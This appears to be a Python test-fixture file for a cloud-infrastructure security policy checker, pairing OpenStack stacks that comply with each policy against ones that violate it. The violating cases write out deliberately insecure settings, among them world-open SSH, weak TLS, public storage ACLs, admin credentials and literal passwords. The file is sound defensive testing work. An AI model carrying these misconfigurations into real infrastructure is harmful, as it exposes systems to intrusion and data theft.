"""For every policy: stacks that violate it and stacks that comply, built from the compliant baseline.

Each builder takes the compliant baseline and returns a resource list; the violating ones change one
thing, so the test can also assert the policy names the offending resource.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Any

from ccsec.policies.resources import RegisteredResource
from ccsec.policies.rules import _props as t
from ccsec_testbeds.synthetic import baseline_user_data, compliant_stack, res, sg_rule, with_inputs

Stack = list[RegisteredResource]
Builder = Callable[[Stack], Stack]
# (policy, case id, builder, config, urn-suffix the violation must name or None for "any")
Case = tuple[str, str, Builder, dict[str, Any] | None]


def find(stack: Stack, name: str) -> RegisteredResource:
    return next(r for r in stack if r.name == name)


def swap(name: str, **inputs: Any) -> Builder:
    """Replace one resource's inputs (None deletes an input)."""

    def build(stack: Stack) -> Stack:
        return [with_inputs(r, **inputs) if r.name == name else r for r in stack]

    return build


def add(*make: Callable[[Stack], RegisteredResource]) -> Builder:
    def build(stack: Stack) -> Stack:
        return [*stack, *(m(stack) for m in make)]

    return build


def drop(*names: str) -> Builder:
    def build(stack: Stack) -> Stack:
        return [r for r in stack if r.name not in names]

    return build


def chain(*builders: Builder) -> Builder:
    def build(stack: Stack) -> Stack:
        for b in builders:
            stack = b(stack)
        return stack

    return build


def same(stack: Stack) -> Stack:
    return stack


_CACHE: list[Stack] = []


def compliant_stack_cache() -> Stack:
    from ccsec_testbeds.synthetic import compliant_stack

    if not _CACHE:
        _CACHE.append(compliant_stack())
    return _CACHE[0]


def five_line_ssh(_: Stack) -> Stack:
    """A plain third-party program: one group, SSH open to the world, no conventions at all."""
    sg = res(t.SEC_GROUP, "sg", {"name": "web", "description": "web servers", "deleteDefaultRules": True})
    rule = res(
        t.SEC_GROUP_RULE,
        "ssh",
        {
            "direction": "ingress",
            "ethertype": "IPv4",
            "protocol": "tcp",
            "portRangeMin": 22,
            "portRangeMax": 22,
            "remoteIpPrefix": "0.0.0.0/0",
            "securityGroupId": "sg-id",
            "description": "ssh for everyone",
        },
        deps=(sg,),
    )
    return [sg, rule]


def five_line_web(stack: Stack) -> Stack:
    """The same plain program opening 443 instead: legal port, but on a group of unknown role."""
    sg, rule = five_line_ssh(stack)
    return [sg, with_inputs(rule, portRangeMin=443, portRangeMax=443)]


def rule_on(role: str, direction: str, port: int, **kw: Any) -> Callable[[Stack], RegisteredResource]:
    """A new rule on the baseline's group for ``role`` (peer given by role name via peer_role=)."""

    def make(stack: Stack) -> RegisteredResource:
        peer_role = kw.pop("peer_role", None)
        peer = find(stack, f"fw-{peer_role}") if peer_role else None
        return sg_rule(find(stack, f"fw-{role}"), role, direction, port, peer=peer, name=f"extra-{role}-{port}", **kw)

    return make


def fip_to(port_name: str, tag: str) -> Callable[[Stack], RegisteredResource]:
    def make(stack: Stack) -> RegisteredResource:
        return res(
            t.FLOATING_IP,
            "extra-fip",
            {"pool": "public", "portId": "p", "tags": [f"ccaas-role={tag}"]},
            deps=(find(stack, port_name),),
        )

    return make


def associate_to(port_name: str) -> Callable[[Stack], RegisteredResource]:
    def make(stack: Stack) -> RegisteredResource:
        fip = find(stack, "bastion-fip")
        return res(
            t.FLOATING_IP_ASSOCIATE,
            "extra-assoc",
            {"floatingIp": "203.0.113.9", "portId": "p"},
            deps=(fip, find(stack, port_name)),
        )

    return make


def temp_url(key: str | None) -> Callable[[Stack], RegisteredResource]:
    inputs = {"container": "c", "object": "o", "ttl": 300, "method": "get"}
    return lambda _: res(t.TEMP_URL, "extra-tempurl", {**inputs, **({"key": key} if key else {})})


HOST = "synthetic-db-1"
CRED = "backup-cred"
LB_HTTPS_FLOW = {"role": "lb", "direction": "ingress", "protocol": "tcp", "port": 443, "remoteCidr": "0.0.0.0/0"}
APP_FROM_LB = "app-ingress-tcp443-fw-lb"
APP_FROM_LB_FLOW = {"role": "app", "direction": "ingress", "protocol": "tcp", "port": 443, "remoteRole": "lb"}
VIOLATING: list[Case] = [
    ("secgroup-ingress-from-anywhere", "five-line-ssh", five_line_ssh, None),
    ("secgroup-ingress-from-anywhere", "db-5432-no-remote", add(rule_on("db", "ingress", 5432)), None),
    (
        "secgroup-ingress-from-anywhere",
        "80-not-in-publicPorts",
        same,
        {"secgroup-ingress-from-anywhere": {"publicPorts": [443]}},
    ),
    ("secgroup-ssh-admin-cidrs", "five-line-ssh", five_line_ssh, None),
    ("secgroup-ssh-admin-cidrs", "public-prefix", add(rule_on("bastion", "ingress", 22, cidr="203.0.113.0/24")), None),
    (
        "secgroup-ssh-admin-cidrs",
        "outside-adminCidrs",
        same,
        {"secgroup-ssh-admin-cidrs": {"adminCidrs": ["192.168.0.0/16"]}},
    ),
    ("secgroup-rule-bounded", "any-protocol", swap("app-ingress-tcp443-fw-lb", protocol=None), None),
    (
        "secgroup-rule-bounded",
        "whole-range",
        swap("app-ingress-tcp443-fw-lb", portRangeMin=None, portRangeMax=None),
        None,
    ),
    ("secgroup-default-rules-deleted", "kept", swap("fw-app", deleteDefaultRules=False), None),
    ("secgroup-default-rules-deleted", "unset", swap("fw-db", deleteDefaultRules=None), None),
    ("secgroup-public-web-lb-only", "443-on-app", add(rule_on("app", "ingress", 443, cidr="0.0.0.0/0")), None),
    ("secgroup-public-web-lb-only", "unknown-role", lambda s: five_line_web(s), None),
    ("secgroup-ssh-from-bastion", "db-ssh-from-cidr", add(rule_on("db", "ingress", 22, cidr="10.99.0.0/24")), None),
    ("secgroup-ssh-from-bastion", "db-ssh-from-app", add(rule_on("db", "ingress", 22, peer_role="app")), None),
    ("secgroup-data-pci-egress", "db-egress-anywhere", add(rule_on("db", "egress", 443, cidr="0.0.0.0/0")), None),
    ("secgroup-data-pci-egress", "payment-egress-no-remote", add(rule_on("payment", "egress", 443)), None),
    (
        "secgroup-data-pci-egress",
        "loghost-egress-anywhere",
        add(rule_on("loghost", "egress", 443, cidr="0.0.0.0/0")),
        None,
    ),
    ("pci-zone-app-only", "from-db", add(rule_on("payment", "ingress", 8443, peer_role="db")), None),
    ("pci-zone-app-only", "from-cidr", add(rule_on("payment", "ingress", 8443, cidr="10.0.0.0/8")), None),
    ("pci-zone-app-only", "bastion-ssh-disallowed", same, {"pci-zone-app-only": {"allowBastionSsh": False}}),
    ("pci-zone-app-only", "pciPeerRoles-none", same, {"pci-zone-app-only": {"pciPeerRoles": []}}),
    (
        "secgroup-data-pci-egress",
        "app-restricted",
        add(rule_on("app", "egress", 443, cidr="0.0.0.0/0")),
        {"secgroup-data-pci-egress": {"restrictedEgressRoles": ["app"]}},
    ),
    ("secgroup-flows-declared", "undeclared", same, {"secgroup-flows-declared": {"allowedFlows": [LB_HTTPS_FLOW]}}),
    (
        "secgroup-flows-declared",
        "other-peer-role",
        same,
        {"secgroup-flows-declared": {"allowedFlows": [{**APP_FROM_LB_FLOW, "remoteRole": "db"}]}},
    ),
    ("floating-ip-role-tagged", "untagged", swap("bastion-fip", tags=None), None),
    ("floating-ip-role-tagged", "app-tag", add(fip_to("synthetic-app-1-port", "app")), None),
    ("floating-ip-internal-hosts", "fip-on-db-port", add(fip_to("synthetic-db-1-port", "bastion")), None),
    ("floating-ip-internal-hosts", "associate-app-port", add(associate_to("synthetic-app-1-port")), None),
    ("listener-terminated-https", "http-8080", swap("http-redirect", protocolPort=8080), None),
    ("listener-terminated-https", "tcp-passthrough", swap("https", protocol="TCP"), None),
    ("listener-http-redirect-only", "no-l7", drop("http-redirect-policy"), None),
    ("listener-http-redirect-only", "redirect-to-pool", swap("http-redirect-policy", action="REDIRECT_TO_POOL"), None),
    ("listener-http-redirect-only", "redirect-to-http", swap("http-redirect-policy", redirectPrefix="http://cc"), None),
    ("listener-tls-versions", "tls11", swap("https", tlsVersions=["TLSv1.1", "TLSv1.2"]), None),
    ("listener-tls-versions", "unset", swap("https", tlsVersions=None), None),
    ("listener-tls-ciphers", "cbc-sha1", swap("https", tlsCiphers="ECDHE-RSA-AES128-GCM-SHA256:AES128-SHA"), None),
    ("listener-tls-ciphers", "keyword", swap("https", tlsCiphers="HIGH:!aNULL"), None),
    ("listener-tls-ciphers", "unset", swap("https", tlsCiphers=None), None),
    ("listener-barbican-certificate", "no-ref", swap("https", defaultTlsContainerRef=None), None),
    ("listener-hsts", "short", swap("https", hstsMaxAge=300), None),
    ("listener-hsts", "no-subdomains", swap("https", hstsIncludeSubdomains=False), None),
    (
        "keymanager-certificate-container",
        "no-key",
        swap("tls", secretRefs=[{"name": "certificate", "secretRef": "x"}]),
        None,
    ),
    ("volume-encrypted-type", "standard", swap("synthetic-db-1-data", volumeType="standard"), None),
    ("volume-encrypted-type", "unset", swap("synthetic-db-1-boot", volumeType=None), None),
    ("instance-boot-encrypted-volume", "local-disk", swap(HOST, blockDevices=None, imageId="debian-12"), None),
    (
        "instance-boot-encrypted-volume",
        "image-plain-type",
        swap(
            HOST,
            blockDevices=[
                {
                    "sourceType": "image",
                    "destinationType": "volume",
                    "uuid": "img",
                    "bootIndex": 0,
                    "volumeType": "standard",
                }
            ],
        ),
        None,
    ),
    ("swift-no-public-read", "public", swap("backup-primary", containerRead=".r:*"), None),
    ("swift-no-public-read", "world-write", swap("backup-primary", containerWrite="*"), None),
    ("swift-no-listings", "listings", swap("backup-primary", containerRead=".rlistings"), None),
    ("swift-no-temp-url-key", "tempurl-key", add(temp_url("s3cr3t")), None),
    ("swift-no-temp-url-key", "container-meta", swap("backup-primary", metadata={"Temp-URL-Key": "k"}), None),
    (
        "swift-no-temp-url-key",
        "account-meta",
        add(lambda _: res(t.SWIFT_ACCOUNT, "acct", {"metadata": {"temp_url_key_2": "k"}})),
        None,
    ),
    ("swift-backup-versioning", "unversioned", swap("backup-primary", versioning=False), None),
    ("backup-offsite-copy", "single", drop("backup-offsite"), None),
    (
        "backup-schedule",
        "diff-15",
        swap(
            HOST,
            metadata={
                "owner": "o",
                "environment": "e",
                "role": "db",
                "data_classification": "c",
                "pci_scope": "false",
                "backup_diff_minutes": "15",
                "backup_full_days": "30",
            },
        ),
        None,
    ),
    ("backup-schedule", "no-container", drop("backup-primary", "backup-offsite"), None),
    ("appcred-restricted", "unrestricted", swap(CRED, unrestricted=True), None),
    ("appcred-restricted", "no-rules", swap(CRED, accessRules=None), None),
    ("appcred-expires", "never", swap(CRED, expiresAt=None), None),
    ("appcred-expires", "garbage", swap(CRED, expiresAt="next year"), None),
    ("appcred-no-admin", "admin", swap(CRED, roles=["member", "admin"]), None),
    ("appcred-no-admin", "inherits", swap(CRED, roles=None), None),
    (
        "instance-inventory-metadata",
        "no-owner",
        swap(
            HOST,
            metadata={
                "environment": "e",
                "role": "db",
                "data_classification": "c",
                "pci_scope": "false",
                "backup_diff_minutes": "5",
                "backup_full_days": "30",
            },
        ),
        None,
    ),
    (
        "instance-inventory-metadata",
        "pci-yes",
        swap(
            HOST,
            metadata={
                "owner": "o",
                "environment": "e",
                "role": "db",
                "data_classification": "c",
                "pci_scope": "yes",
                "backup_diff_minutes": "5",
                "backup_full_days": "30",
            },
        ),
        None,
    ),
    ("instance-anti-affinity", "no-hints", swap(HOST, schedulerHints=None), None),
    ("server-group-anti-affinity", "affinity", swap("db-group", policies="affinity"), None),
    ("server-group-anti-affinity", "soft", swap("db-group", policies=["soft-anti-affinity"]), None),
    ("instance-config-drive", "off", swap(HOST, configDrive=False), None),
    ("instance-host-baseline", "shell-script", swap(HOST, userData="#!/bin/bash\necho hi\n"), None),
    ("instance-host-baseline", "no-marker", swap(HOST, userData="#cloud-config\nhostname: x\n"), None),
    (
        "instance-host-baseline",
        "marker-late",
        swap(HOST, userData="#cloud-config\n" + "a: 1\n" * 6 + "# ccaas-baseline host baseline v1\n"),
        None,
    ),
    (
        "private-cloud-only",
        "aws-bucket",
        add(lambda _: res("aws:s3/bucket:Bucket", "bucket", {"acl": "private"})),
        None,
    ),
    ("private-cloud-only", "gcp-provider", add(lambda _: res("pulumi:providers:gcp", "gcp", {"project": "p"})), None),
]

COMPLIANT: list[Case] = [
    (
        "secgroup-ingress-from-anywhere",
        "icmp-from-private",
        add(rule_on("app", "ingress", 0, protocol="icmp", cidr="10.0.0.0/8")),
        None,
    ),
    (
        "secgroup-ssh-admin-cidrs",
        "inside-adminCidrs",
        same,
        {"secgroup-ssh-admin-cidrs": {"adminCidrs": ["10.99.0.0/16"]}},
    ),
    (
        "secgroup-rule-bounded",
        "icmp-without-ports",
        add(rule_on("app", "ingress", 0, protocol="icmp", cidr="10.0.0.0/8")),
        None,
    ),
    ("pci-zone-app-only", "bastion-ssh", same, None),
    (
        "secgroup-public-web-lb-only",
        "publicRoles-app",
        add(rule_on("app", "ingress", 443, cidr="0.0.0.0/0")),
        {"secgroup-public-web-lb-only": {"publicRoles": ["lb", "app"]}},
    ),
    (
        "secgroup-ssh-from-bastion",
        "sshSourceRoles-app",
        add(rule_on("db", "ingress", 22, peer_role="app")),
        {"secgroup-ssh-from-bastion": {"sshSourceRoles": ["bastion", "app"]}},
    ),
    ("secgroup-flows-declared", "no-allowedFlows", add(rule_on("db", "ingress", 9999, peer_role="app")), None),
    (
        "secgroup-flows-declared",
        "every-rule-declared",
        drop(*(r.name for r in compliant_stack() if r.type == t.SEC_GROUP_RULE and r.name != APP_FROM_LB)),
        {"secgroup-flows-declared": {"allowedFlows": [APP_FROM_LB_FLOW]}},
    ),
    (
        "listener-terminated-https",
        "exempt-port",
        swap("http-redirect", protocol="TCP", protocolPort=5061),
        {"listener-terminated-https": {"exemptPorts": [5061]}},
    ),
    (
        "listener-tls-ciphers",
        "tls13-suites",
        swap("https", tlsCiphers="TLS_AES_128_GCM_SHA256:TLS_CHACHA20_POLY1305_SHA256"),
        None,
    ),
    ("keymanager-certificate-container", "generic-not-applicable", swap("tls", type="generic", secretRefs=None), None),
    (
        "volume-encrypted-type",
        "configured-type",
        chain(swap("synthetic-db-1-data", volumeType="fast-luks")),
        {"volume-encrypted-type": {"allowedVolumeTypes": ["encrypted-luks2", "fast-luks"]}},
    ),
    (
        "instance-boot-encrypted-volume",
        "image-encrypted-type",
        swap(
            HOST,
            blockDevices=[
                {
                    "sourceType": "image",
                    "destinationType": "volume",
                    "uuid": "img",
                    "bootIndex": 0,
                    "volumeType": "encrypted-luks2",
                }
            ],
        ),
        None,
    ),
    ("swift-no-temp-url-key", "tempurl-without-key", add(temp_url(None)), None),
    (
        "swift-backup-versioning",
        "non-backup-unversioned",
        add(lambda _: res(t.SWIFT_CONTAINER, "assets", {"name": "web-assets"})),
        None,
    ),
    (
        "backup-offsite-copy",
        "container-sync",
        chain(drop("backup-offsite"), swap("backup-primary", containerSyncTo="//realm/cluster/AUTH_x/offsite")),
        None,
    ),
    ("server-group-anti-affinity", "list-form", swap("db-group", policies=["anti-affinity"]), None),
    (
        "instance-host-baseline",
        "leading-blank-lines",
        swap(HOST, userData="\n" + baseline_user_data("x")),
        None,
    ),
    (
        "private-cloud-only",
        "tls-and-random-are-fine",
        add(lambda _: res("random:index/randomPassword:RandomPassword", "pw", {"length": 32})),
        None,
    ),
]


# --- Network classes (issue #11): one mutation of the synthetic baseline each -------------------------
NETWORK = "openstack:networking/network:Network"
SUBNET = "openstack:networking/subnet:Subnet"
ROUTER = "openstack:networking/router:Router"
ROUTER_INTERFACE = "openstack:networking/routerInterface:RouterInterface"
ADDRESS_GROUP = "openstack:networking/addressGroupV2:AddressGroupV2"
APP_PORT = "synthetic-app-1-port"


def address_group_rule(addresses: list[str], role: str = "db", port: int = 5432) -> Builder:
    def build(stack: Stack) -> Stack:
        ag = res(ADDRESS_GROUP, "extra-ag", {"name": "ag", "addresses": addresses})
        rule = sg_rule(find(stack, f"fw-{role}"), role, "ingress", port, name=f"extra-{role}-ag")
        rule = with_inputs(rule, remoteAddressGroupId="ag-id")
        from dataclasses import replace

        return [*stack, ag, replace(rule, dependencies=(*rule.dependencies, ag.urn))]

    return build


def closed_subnet_on_gateway_router(zone: str, gateway: bool) -> Builder:
    def build(stack: Stack) -> Stack:
        router = res(ROUTER, "extra-router", {"name": "r", **({"externalNetworkId": "public"} if gateway else {})})
        subnet = res(
            SUBNET,
            f"extra-{zone}",
            {"name": f"synthetic-{zone}", "cidr": "10.20.30.0/24", "tags": [f"ccaas-zone={zone}"]},
        )
        iface = res(ROUTER_INTERFACE, "extra-if", {"routerId": "r", "subnetId": "s"}, deps=(router, subnet))
        return [*stack, router, subnet, iface]

    return build


def stray_bastion_port_fip(stack: Stack) -> Stack:
    port = res(
        t.PORT,
        "stray-port",
        {"name": "stray", "networkId": "net", "securityGroupIds": ["fw-app-id"], "tags": ["ccaas-role=bastion"]},
        deps=(find(stack, "fw-app"),),
    )
    fip = res(
        t.FLOATING_IP, "stray-fip", {"pool": "public", "portId": "p", "tags": ["ccaas-role=bastion"]}, deps=(port,)
    )
    return [*stack, port, fip]


NET_VIOLATING: list[Case] = [
    (
        "secgroup-internet-ingress",
        "halves",
        add(
            rule_on("db", "ingress", 5432, cidr="0.0.0.0/1"),
            lambda s: sg_rule(find(s, "fw-db"), "db", "ingress", 5432, cidr="128.0.0.0/1", name="extra-db-half2"),
        ),
        None,
    ),
    ("secgroup-internet-ingress", "v6-spelling", add(rule_on("app", "ingress", 8080, cidr="0::/0")), None),
    ("secgroup-internet-ingress", "host-bits", add(rule_on("app", "ingress", 8080, cidr="10.0.0.5/0")), None),
    ("secgroup-internet-ingress", "mapped-v6", add(rule_on("app", "ingress", 8080, cidr="::ffff:0.0.0.0/96")), None),
    ("secgroup-internet-ingress", "public-slash8s", add(rule_on("app", "ingress", 8080, cidr="1.0.0.0/8")), None),
    ("secgroup-internet-ingress", "address-group-anywhere", address_group_rule(["0.0.0.0/0"]), None),
    ("secgroup-internet-ingress", "unparseable", add(rule_on("app", "ingress", 8080, cidr="010.0.0.0/8")), None),
    ("secgroup-no-internet-egress", "app-egress", add(rule_on("app", "egress", 443, cidr="0.0.0.0/0")), None),
    ("secgroup-no-internet-egress", "lb-egress-v6", add(rule_on("lb", "egress", 443, cidr="::/0")), None),
    ("secgroup-described", "rule-undescribed", swap("app-ingress-tcp443-fw-lb", description=None), None),
    ("secgroup-described", "group-undescribed", swap("fw-app", description=" "), None),
    ("port-security-enabled", "port-off", swap(APP_PORT, portSecurityEnabled=False), None),
    (
        "port-security-enabled",
        "network-off",
        add(lambda _: res(NETWORK, "extra-net", {"name": "n", "portSecurityEnabled": False})),
        None,
    ),
    ("port-security-enabled", "value-specs", swap(APP_PORT, valueSpecs={"port_security_enabled": "false"}), None),
    ("port-address-pairs-narrow", "anywhere", swap(APP_PORT, allowedAddressPairs=[{"ipAddress": "0.0.0.0/0"}]), None),
    (
        "port-address-pairs-narrow",
        "wide-private",
        swap(APP_PORT, allowedAddressPairs=[{"ipAddress": "10.0.0.0/8"}]),
        None,
    ),
    ("port-vnic-normal", "direct", swap(APP_PORT, binding={"vnicType": "direct"}), None),
    ("port-vnic-normal", "macvtap", swap(APP_PORT, binding={"vnicType": "macvtap"}), None),
    ("port-vnic-normal", "direct-physical", swap(APP_PORT, binding={"vnicType": "direct-physical"}), None),
    ("port-vnic-normal", "virtio-forwarder", swap(APP_PORT, binding={"vnicType": "virtio-forwarder"}), None),
    ("port-explicit-security-groups", "no-groups", swap(APP_PORT, securityGroupIds=None), None),
    ("port-explicit-security-groups", "default", swap(APP_PORT, securityGroupIds=["default"]), None),
    ("port-explicit-security-groups", "no-security-groups", swap(APP_PORT, noSecurityGroups=True), None),
    ("port-explicit-security-groups", "server-on-network", swap(HOST, networks=[{"uuid": "net"}]), None),
    (
        "no-external-network-attachment",
        "port",
        chain(
            add(lambda _: res(ROUTER, "extra-router", {"externalNetworkId": "public"})),
            swap(APP_PORT, networkId="public"),
        ),
        None,
    ),
    (
        "no-external-network-attachment",
        "server",
        chain(
            add(lambda _: res(ROUTER, "extra-router", {"externalNetworkId": "public"})),
            swap(HOST, networks=[{"uuid": "public"}]),
        ),
        None,
    ),
    ("router-no-route-out-data-pci", "pci-on-gateway", closed_subnet_on_gateway_router("pci", True), None),
    ("router-no-route-out-data-pci", "data-on-gateway", closed_subnet_on_gateway_router("data", True), None),
    (
        "rbac-no-wildcard-grant",
        "shared-star",
        add(
            lambda _: res(
                "openstack:networking/rbacPolicyV2:RbacPolicyV2",
                "rbac",
                {"action": "access_as_shared", "objectType": "network", "objectId": "n", "targetTenant": "*"},
            )
        ),
        None,
    ),
    (
        "rbac-no-wildcard-grant",
        "external-star",
        add(
            lambda _: res(
                "openstack:networking/rbacPolicyV2:RbacPolicyV2",
                "rbac",
                {"action": "access_as_external", "objectType": "network", "objectId": "n", "targetTenant": "*"},
            )
        ),
        None,
    ),
    ("network-not-shared", "shared", add(lambda _: res(NETWORK, "extra-net", {"name": "n", "shared": True})), None),
    ("network-not-shared", "external", add(lambda _: res(NETWORK, "extra-net", {"name": "n", "external": True})), None),
    ("floating-ip-target-verified", "bastion-tag-internal-port", stray_bastion_port_fip, None),
    (
        "floating-ip-target-verified",
        "literal-port",
        add(
            lambda _: res(
                t.FLOATING_IP, "lit-fip", {"pool": "public", "portId": "some-port", "tags": ["ccaas-role=bastion"]}
            )
        ),
        None,
    ),
    (
        "floating-ip-no-port-forwarding",
        "pf",
        add(
            lambda _: res(
                "openstack:networking/portForwardingV2:PortForwardingV2",
                "pf",
                {
                    "floatingipId": "f",
                    "internalPortId": "p",
                    "internalIpAddress": "10.0.0.1",
                    "internalPort": 22,
                    "externalPort": 2222,
                    "protocol": "tcp",
                },
            )
        ),
        None,
    ),
]
NET_COMPLIANT: list[Case] = [
    (
        "secgroup-internet-ingress",
        "private-halves",
        add(
            rule_on("db", "ingress", 5432, cidr="10.0.0.0/9"),
            lambda s: sg_rule(find(s, "fw-db"), "db", "ingress", 5432, cidr="10.128.0.0/9", name="extra-db-half2"),
        ),
        None,
    ),
    ("secgroup-internet-ingress", "lb-443-v6", add(rule_on("lb", "ingress", 443, cidr="::0/0")), None),
    ("secgroup-internet-ingress", "private-address-group", address_group_rule(["10.20.10.0/24"]), None),
    ("port-address-pairs-narrow", "vip", swap(APP_PORT, allowedAddressPairs=[{"ipAddress": "10.20.10.5/32"}]), None),
    ("port-vnic-normal", "normal", swap(APP_PORT, binding={"vnicType": "normal"}), None),
    ("router-no-route-out-data-pci", "pci-on-core", closed_subnet_on_gateway_router("pci", False), None),
    (
        "rbac-no-wildcard-grant",
        "one-project",
        add(
            lambda _: res(
                "openstack:networking/rbacPolicyV2:RbacPolicyV2",
                "rbac",
                {"action": "access_as_shared", "objectType": "network", "objectId": "n", "targetTenant": "proj-1"},
            )
        ),
        None,
    ),
]
VIOLATING += NET_VIOLATING
COMPLIANT += NET_COMPLIANT


# ---- secrets, identity, data, TLS inside, VPN, images, host baseline (issue 11) ----
PROVIDER = "pulumi:providers:openstack"
GOOD_RULE = {"service": "object-store", "method": "PUT", "path": "/v1/AUTH_x/synthetic-backups/**"}


def one(type_token: str, name: str, inputs: dict[str, Any], **kw: Any) -> Builder:
    return add(lambda _: res(type_token, name, inputs, **kw))


def role_assignment(role_name: str) -> Builder:
    def build(stack: Stack) -> Stack:
        role = res(t.ROLE, f"role-{role_name}", {"name": role_name})
        grant = res(
            t.ROLE_ASSIGNMENT, f"grant-{role_name}", {"roleId": "r", "userId": "u", "projectId": "p"}, deps=(role,)
        )
        return [*stack, role, grant]

    return build


def ec2_for(user_name: str | None, project: str | None = "p", user_id: str | None = None) -> Builder:
    """An EC2 credential; with ``user_name`` it depends on an identity.User of that name (``user_id`` overrides
    the id it is given, e.g. the unknown sentinel of a first preview)."""

    def build(stack: Stack) -> Stack:
        extra: list[RegisteredResource] = []
        deps: tuple[RegisteredResource, ...] = ()
        if user_name:
            user = res(t.IDENTITY_USER, f"user-{user_name}", {"name": user_name})
            extra.append(user)
            deps = (user,)
        inputs = {"userId": user_id or "u"} if user_name or user_id else {}
        if project:
            inputs["projectId"] = project
        return [*stack, *extra, res(t.EC2_CREDENTIAL, "ec2", inputs, deps=deps)]

    return build


def pool(**inputs: Any) -> Builder:
    base = {"protocol": "HTTP", "tlsEnabled": True, "tlsVersions": ["TLSv1.2", "TLSv1.3"], "caTlsContainerRef": "ca"}
    return one(t.POOL, "pool", {k: v for k, v in {**base, **inputs}.items() if v is not None})


def pool_with_monitor(stack: Stack) -> Stack:
    p = res(t.POOL, "pool", {"protocol": "HTTPS"})
    return [*stack, p, res(t.MONITOR, "monitor", {"poolId": "pool-id", "type": "TLS-HELLO"}, deps=(p,))]


STRONG_IKE = {"authAlgorithm": "sha256", "encryptionAlgorithm": "aes-256", "pfs": "group14", "ikeVersion": "v2"}
STRONG_IPSEC = {
    "authAlgorithm": "sha256",
    "encryptionAlgorithm": "aes-256",
    "pfs": "group19",
    "transformProtocol": "esp",
}
SIGNED = {
    "img_signature": "c2ln",
    "img_signature_hash_method": "SHA-256",
    "img_signature_key_type": "RSA-PSS",
    "img_signature_certificate_uuid": "uuid",
}
PRIVATE_ACL = {"read": {"projectAccess": False}}


def plain(r: RegisteredResource) -> RegisteredResource:
    """The same registration with no input marked secret (a literal in the program)."""
    from dataclasses import replace

    return replace(r, secret_inputs=frozenset())


def user_data_with(extra: str) -> Builder:
    """The synthetic baseline plus one edit, digest recomputed (the attacker's best effort)."""
    from ccsec_testbeds.synthetic import BASELINE_BODY

    return swap(HOST, userData=baseline_user_data(HOST, BASELINE_BODY + extra))


def appended_after_render(extra: str) -> Builder:
    return swap(HOST, userData=baseline_user_data(HOST) + extra)


VIOLATING += [
    ("instance-no-admin-pass", "set", swap(HOST, adminPass="hunter2hunter2"), None),
    ("keypair-public-key-only", "generated", one(t.KEYPAIR, "kp", {"name": "ops"}), None),
    (
        "no-plaintext-secret-inputs",
        "psk-literal",
        one("openstack:vpnaas/siteConnection:SiteConnection", "vpn", {"psk": "abc"}),
        None,
    ),
    (
        "no-plaintext-secret-inputs",
        "nested-token",
        one("openstack:objectstorage/accountV1:AccountV1", "acct", {"headers": {"X-Auth-Token": "t"}}),
        None,
    ),
    (
        "no-plaintext-secret-inputs",
        "barbican-payload",
        lambda st: [plain(r) if r.name == "tls-cert" else r for r in st],
        None,
    ),
    ("no-plaintext-secret-inputs", "sync-key", swap("backup-primary", containerSyncKey="k"), None),
    (
        "provider-secure-transport",
        "insecure",
        one(PROVIDER, "os", {"insecure": "true", "authUrl": "https://k:5000/v3"}),
        None,
    ),
    ("provider-secure-transport", "http-auth-url", one(PROVIDER, "os", {"authUrl": "HTTP://keystone:5000/v3"}), None),
    (
        "provider-secure-transport",
        "password",
        one(PROVIDER, "os", {"authUrl": "https://k/v3", "password": "p"}, secret=("password",)),
        None,
    ),
    ("appcred-access-rules-narrow", "star-method", swap(CRED, accessRules=[{**GOOD_RULE, "method": "*"}]), None),
    ("appcred-access-rules-narrow", "double-star-path", swap(CRED, accessRules=[{**GOOD_RULE, "path": "/**"}]), None),
    ("appcred-access-rules-narrow", "account-wide", swap(CRED, accessRules=[{**GOOD_RULE, "path": "/v1/*/**"}]), None),
    ("appcred-access-rules-narrow", "any-service", swap(CRED, accessRules=[{**GOOD_RULE, "service": None}]), None),
    ("appcred-expires", "beyond-400-days", swap(CRED, expiresAt="2099-01-01T00:00:00Z"), None),
    ("identity-no-admin-role-assignment", "admin-role", role_assignment("admin"), None),
    ("identity-no-admin-role-assignment", "cloud-admin-role", role_assignment("cloud_admin"), None),
    (
        "identity-no-admin-role-assignment",
        "literal-id",
        one(t.ROLE_ASSIGNMENT, "g", {"roleId": "id-1", "userId": "u"}),
        {"identity-no-admin-role-assignment": {"adminRoleIds": ["id-1"]}},
    ),
    ("ec2-credential-backup-only", "own-user", ec2_for(None), None),
    ("ec2-credential-backup-only", "other-user", ec2_for("alice"), None),
    ("ec2-credential-backup-only", "no-project", ec2_for("backup-s3", project=None), None),
    ("swift-no-public-read", "ref-star", swap("backup-primary", containerRead=".ref:*"), None),
    ("swift-no-public-read", "referrer-spaces", swap("backup-primary", containerRead="  .referrer :  * "), None),
    ("swift-no-public-read", "domain-referrer", swap("backup-primary", containerRead=".r:*.example.com"), None),
    ("swift-no-public-read", "star-star", swap("backup-primary", containerRead="*:*"), None),
    ("swift-no-public-read", "bad-designator", swap("backup-primary", containerRead=".R:*"), None),
    ("swift-no-listings", "spaced", swap("backup-primary", containerRead=" .rlistings , proj:u"), None),
    ("swift-acl-no-cross-project", "foreign-project", swap("backup-primary", containerRead="other-project:*"), None),
    ("swift-acl-no-cross-project", "any-project-user", swap("backup-primary", containerRead="*:alice"), None),
    ("swift-no-write-acl", "write-grant", swap("backup-primary", containerWrite="ops-project:deployer"), None),
    (
        "swift-no-foreign-sync",
        "other-cluster",
        swap("backup-primary", containerSyncTo="//realm/elsewhere/AUTH_x/c"),
        None,
    ),
    (
        "swift-no-foreign-sync",
        "http-url",
        swap("backup-primary", containerSyncTo="http://swift.example/v1/AUTH_x/c"),
        {"swift-no-foreign-sync": {"allowedSyncTargets": ["http://swift.example/v1/AUTH_x"]}},
    ),
    (
        "share-access-private-only",
        "anywhere",
        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "0.0.0.0/0", "accessLevel": "rw"}),
        None,
    ),
    (
        "share-access-private-only",
        "anywhere-v6-spelling",
        one(t.SHARE_ACCESS, "sa", {"accessType": "IP", "accessTo": "0::/0"}),
        None,
    ),
    (
        "share-access-private-only",
        "mapped-v4",
        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "::ffff:0.0.0.0/96"}),
        None,
    ),
    (
        "share-access-private-only",
        "public-host",
        one(t.SHARE_ACCESS, "sa", {"accessType": "ip", "accessTo": "8.8.8.8"}),
        None,
    ),
    ("keymanager-acl-private", "default-acl", swap("tls-key", acl=None), None),
    ("keymanager-acl-private", "project-access", swap("tls", acl={"read": {"projectAccess": True}}), None),
    (
        "keymanager-secret-expires",
